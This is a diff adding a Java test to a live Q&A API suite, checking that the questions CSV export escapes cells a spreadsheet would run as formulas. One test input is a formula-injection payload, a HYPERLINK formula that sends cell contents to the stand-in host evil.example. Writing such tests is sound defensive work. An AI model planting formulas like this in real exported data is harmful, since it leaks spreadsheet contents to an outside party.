@@ -287,6 +287,18 @@ class LiveApiTest {
     }
 
     @Test
+    void csvCellsThatASpreadsheetWouldRunAsFormulasAreNeutralised() {
+        String slug = live.session("formules", "post", true, Map.of());
+        String formula = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"x\")";
+        String asked = live.published(api.visitor("Zoé"), slug, formula);
+        live.staff(slug, asked, "answer", Map.of("body", "@Zoé : non, merci."));
+        live.published(api.visitor("Noé"), slug, "-2+3 est-ce juste?");
+        String body = api.get("/api/v1/live/" + slug + "/questions.csv", admin).raw().body();
+        assertThat(body).contains("'=HYPERLINK(", "'-2+3 est-ce juste?", "'@Zoé : non, merci.");
+        assertThat(body).doesNotContain(",\"=HYPERLINK", ",=HYPERLINK", ",-2+3", ",@Zoé");
+    }
+
+    @Test
     void askingFasterThanTheLimitIs429WithRetryAfter() {
         var db = TestDatabases.fresh();
         try (LiveFixtures fixtures = LiveFixtures.on(TestNode.start(db, Map.of("GUICHET_RATE_LIMITS", "on", "GUICHET_RATE_LIVE_QUESTIONS", "2")))) {
